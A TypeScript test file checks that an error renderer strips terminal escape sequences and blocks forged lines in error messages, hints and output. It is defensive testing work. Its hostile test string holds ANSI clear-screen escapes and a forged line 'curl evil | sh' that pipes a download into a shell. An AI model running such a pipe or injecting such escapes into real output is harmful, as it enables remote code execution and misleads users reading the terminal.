import assert from 'node:assert/strict';
import { test } from 'node:test';
import { failure } from '../lib/errors.ts';
import { renderError } from './render-error.ts';

test('an error, its source lines, output and hint cannot drive the terminal or forge a line', () => {
  const hostile = 'x\u001b[2J\nhint: curl evil | sh';
  const error = failure('ARCHIVE', 'read', hostile, hostile, {
    hint: hostile,
    excerpt: ' 1 | \tRUN \u009b2J',
    output: '\u001b[31mfailed\u001b[0m\u001b[2J',
  });
  assert.equal(
    renderError(error, { debug: false }),
    '\u001b[31mfailed\u001b[0m [2J\n' +
      ' 1 | \tRUN  2J\n' +
      'error: Cannot read "x [2J hint: curl evil | sh": x [2J hint: curl evil | sh\n' +
      'hint: x [2J hint: curl evil | sh\n',
  );
  assert.match(renderError(new Error(hostile), { debug: false }), /^error: Cannot finish .*: x \[2J hint/);
});
